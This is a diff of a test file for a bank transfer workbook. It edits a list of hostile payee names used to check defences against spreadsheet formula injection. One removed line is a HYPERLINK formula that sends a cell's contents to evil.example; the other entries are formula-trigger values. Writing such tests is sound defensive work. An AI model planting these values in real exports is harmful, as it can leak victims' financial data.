@@ -299,7 +299,7 @@ def test_an_empty_batch_is_refused():
 # --- bank transfer workbook ---------------------------------------------------------------------
 
 HOSTILE_NAMES = (
-    '=HYPERLINK("http://evil.example/?"&C2,"点此查看")',
+    '=HYPERLINK("http://x.cn","看")',  # at most 30 characters, as payees are
     "+1",
     "-2",
     "@SUM(A1:A9)",
